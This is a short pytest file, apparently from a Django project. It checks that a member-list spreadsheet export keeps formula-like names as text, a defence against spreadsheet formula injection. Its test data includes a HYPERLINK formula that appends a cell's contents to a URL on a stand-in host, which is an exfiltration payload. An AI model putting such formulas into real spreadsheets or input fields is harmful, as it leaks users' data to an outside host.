"""The member export stores names as text, never formulas (issue 10, item 6)."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest

from tuyengiao.lib.tests.test_cells import assert_text_cells
from tuyengiao.orgs import services as org_services
from tuyengiao.orgs.access import SYSTEM
from tuyengiao.trust.exports import member_list_xlsx

pytestmark = pytest.mark.django_db

UNIT = '=HYPERLINK("http://x.example/?"&A3,"Bấm")'
MEMBER = "=1+1"


def test_member_export_keeps_formula_like_names_as_text(world: Any) -> None:
    org_services.unit_rename(actor=SYSTEM, unit=world.cell, name=UNIT, on=dt.date(2025, 1, 2))
    member = world.members[0]
    member.given_name = MEMBER
    member.save(update_fields=["given_name"])
    data, _ = member_list_xlsx(world.commune, dt.date(2025, 6, 1))
    assert_text_cells(data, {UNIT})
    assert b"<f>" not in data
